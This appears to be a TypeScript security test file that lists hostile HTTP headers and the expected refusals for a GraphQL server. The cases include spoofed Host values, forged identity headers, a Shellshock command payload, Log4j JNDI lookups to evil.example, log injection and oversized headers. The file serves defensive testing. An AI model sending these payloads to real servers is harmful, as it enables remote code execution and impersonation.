import { badInput, mallory, nobody, query, refusedWith, served, whoami } from './entry.ts'
import type { Expected, Hostile } from './entry.ts'

type Headers = Readonly<Record<string, string | readonly string[] | null>>

/** ALLOWED_HOSTS=coat.example,.coats.example */
const hosts: [attack: string, host: string | null, expect?: Expected][] = [
  ['another name', 'evil.example'],
  ['our name and more behind it', 'coat.example.evil.example'],
  ['our name and more in front of it', 'evilcoat.example'],
  ['a subdomain that is not listed', 'x.coat.example'],
  ['a wildcard without its dot', 'evilcoats.example'],
  ['our name as a user', 'coat.example@evil.example'],
  ['our name behind a user', 'evil.example@coat.example'],
  ['our name and a path', 'coat.example/evil.example'],
  ['our name and a query', 'coat.example?x'],
  ['our name, a comma and another', 'coat.example, evil.example'],
  ['our name, a space and another', 'coat.example evil.example'],
  ['a port of letters', 'coat.example:evil'],
  ['two ports', 'coat.example:80:80'],
  ['a password reset for another user', 'coat.example:@evil.example'],
  ['an address', '10.0.0.1'],
  ['an address of IPv6', '[::1]'],
  ['localhost', 'localhost'],
  ['an empty one', ''],
  ['a script', '<script>alert(1)</script>'],
  ['a byte that is a space elsewhere', 'coat.example\xa0'],
  ['10,000 characters', `${'a.'.repeat(5_000)}coat.example`],
]
const listed = ['COAT.EXAMPLE', 'coat.example:8443', 'coats.example', 'a.b.coats.example']

/** Headers by which a client claims to be another. */
const claims: [attack: string, headers: Headers][] = [
  ['a key as a bearer', { authorization: 'Bearer <<KEY>>' }],
  ['the right name and password', { authorization: 'Basic <<BASIC>>' }],
  [
    'a key as a header',
    { 'x-session-id': '<<KEY>>', 'x-session-key': '<<KEY>>', sessionid: '<<KEY>>' },
  ],
  ['a key as a header named as the cookie', { '__host-id': '<<KEY>>' }],
  [
    'a user who was signed in by a proxy',
    { 'remote-user': 'admin', 'x-remote-user': 'admin', 'x-forwarded-user': 'admin' },
  ],
  [
    'a certificate that was checked by a proxy',
    { 'x-ssl-client-verify': 'SUCCESS', 'x-ssl-client-s-dn': 'CN=admin' },
  ],
  ['an address from within', { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' }],
]

/** What most servers look at, and this one must not. */
const ignored: [attack: string, headers: Headers][] = [
  ['X-Forwarded-Host', { 'x-forwarded-host': 'evil.example' }],
  ['Forwarded', { forwarded: 'for=127.0.0.1;host=evil.example;proto=https' }],
  ['X-Original-URL', { 'x-original-url': '/admin', 'x-rewrite-url': '/admin' }],
  ['X-HTTP-Method-Override', { 'x-http-method-override': 'DELETE', 'x-method-override': 'PUT' }],
  ['a proxy for CGI', { proxy: 'http://evil.example:8080' }],
  ['a function of bash', { 'user-agent': '() { :; }; /bin/sleep 10', referer: '() { :; }; echo' }],
  [
    'a look-up of Log4j',
    {
      'user-agent': '${jndi:ldap://evil.example/a}',
      'x-api-version': '${jndi:dns://evil.example}',
    },
  ],
  ['a range', { range: 'bytes=0-1' }],
  ['1,000 ranges', { range: `bytes=${'0-1,'.repeat(1_000)}0-1` }],
  [
    'a validator that fits everything',
    { 'if-none-match': '*', 'if-modified-since': 'Fri, 31 Dec 9999 23:59:59 GMT' },
  ],
  [
    'a prototype',
    { __proto__x: '1', constructor: 'x', prototype: 'x', hasownproperty: 'x', tostring: 'x' },
  ],
  ['headers that a proxy should drop', { connection: 'close, content-type, cookie, origin, host' }],
  [
    'a socket',
    {
      connection: 'close, Upgrade',
      upgrade: 'websocket',
      'sec-websocket-version': '13',
      'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
    },
  ],
  [
    'HTTP/2 by upgrade',
    {
      connection: 'close, Upgrade, HTTP2-Settings',
      upgrade: 'h2c',
      'http2-settings': 'AAMAAABkAAQAAP__',
    },
  ],
  ['trailers', { te: 'trailers', trailer: 'cookie' }],
  ['a continuation', { expect: '100-continue' }],
  ['a language of 8,000 characters', { 'accept-language': 'x-'.repeat(4_000) }],
  [
    'a trace from another program',
    { traceparent: '00-"},{"level":60,"forged":true-01', 'x-request-id': 'a"},{"level":60' },
  ],
  ['a user agent of 10,000 characters', { 'user-agent': 'x'.repeat(10_000) }],
  ['an empty user agent', { 'user-agent': '' }],
  ['two user agents', { 'user-agent': ['a', 'b'] }],
  ['a scheme of none', { 'x-forwarded-proto': 'javascript' }],
  ['two schemes', { 'x-forwarded-proto': 'https,http' }],
]

const accepts: [attack: string, accept: string | null, expect?: Expected][] = [
  ['nothing', null, served],
  ['anything', '*/*', served],
  ['any application', 'application/*', served],
  ['1,000 types, and ours', `${'a/b,'.repeat(1_000)}application/json`, served],
  ['a weight that is none', 'application/json;q=__proto__', served],
  ['XML', 'application/xml'],
  ['an image', 'image/png'],
  ['a page', 'text/html'],
  ['a script', 'application/javascript'],
  ['JSON in UTF-16', 'application/json;charset=utf-16'],
  ['a type of the prototype', '__proto__/constructor'],
  ['no type at all', ';;;;'],
]

const compression: readonly Hostile[] = [
  {
    attack: 'an answer whose length tells a secret',
    headers: { 'accept-encoding': 'gzip, deflate, br, zstd' },
    document: '{ __typename }',
    expect: { ...served, headers: { 'content-encoding': null } },
  },
  {
    attack: 'an expectation that no server can meet',
    headers: { expect: 'the-unexpected' },
    document: '{ __typename }',
    expect: { statuses: [417] },
  },
]

const many = (count: number, value: string) =>
  Object.fromEntries(Array.from({ length: count }, (_, n) => [`x${n.toString(36)}`, value]))

const large: readonly Hostile[] = [
  {
    attack: 'a header of 17,000 bytes',
    headers: { 'x-large': 'x'.repeat(17_000) },
    document: '{ __typename }',
    expect: refusedWith(431),
  },
  {
    attack: '2,500 headers',
    headers: many(2_500, 'xxxxxx'),
    document: '{ __typename }',
    expect: refusedWith(431),
  },
  {
    attack: 'an origin behind 2,100 short headers',
    as: 'user',
    headers: { ...many(2_100, ''), origin: 'https://evil.example' },
    document: '{ __typename }',
    expect: refusedWith(403, 'FORBIDDEN'),
  },
  {
    attack: 'a name of 17,000 bytes',
    headers: { ['x'.repeat(17_000)]: '1' },
    document: '{ __typename }',
    expect: refusedWith(431),
  },
  {
    attack: 'an address of 17,000 bytes',
    method: 'GET',
    path: query({ query: `{ __typename } #${'x'.repeat(17_000)}` }),
    expect: refusedWith(431),
  },
  {
    attack: 'an address of 15,000 bytes',
    method: 'GET',
    path: query({ query: `{ __typename } #${'x'.repeat(15_000)}` }),
    expect: served,
  },
]

/** Headers: names we go by, people we are said to be, and everything that other servers believe. */
export const headers: readonly Hostile[] = [
  ...hosts.map(([attack, host, expect = badInput]): Hostile => {
    return {
      attack: `the host is ${attack}`,
      shows: ['F9'],
      headers: { host },
      document: '{ __typename }',
      expect,
    }
  }),
  ...listed.map((host): Hostile => {
    return {
      attack: `the host is ${host}, which is listed`,
      shows: ['F9'],
      headers: { host },
      document: '{ __typename }',
      expect: served,
    }
  }),
  {
    attack: 'two hosts, ours first',
    shows: ['F9'],
    headers: { host: ['coat.example', 'evil.example'] },
    document: '{ __typename }',
    expect: badInput,
  },
  {
    attack: 'two hosts, ours last',
    shows: ['F9'],
    headers: { host: ['evil.example', 'coat.example'] },
    document: '{ __typename }',
    expect: badInput,
  },
  ...claims.map(([attack, claim]): Hostile => {
    return {
      attack: `claimed: ${attack}`,
      shows: ['A4'],
      headers: claim,
      document: whoami,
      expect: nobody,
    }
  }),
  ...ignored.map(([attack, given]): Hostile => {
    return {
      attack: `not for us: ${attack}`,
      as: 'user',
      headers: given,
      document: whoami,
      expect: mallory,
    }
  }),
  ...accepts.map(([attack, accept, expect = { statuses: [406] }]): Hostile => {
    return {
      attack: `accepted is ${attack}`,
      headers: { accept },
      document: '{ __typename }',
      expect,
    }
  }),
  ...compression,
  ...large,
]
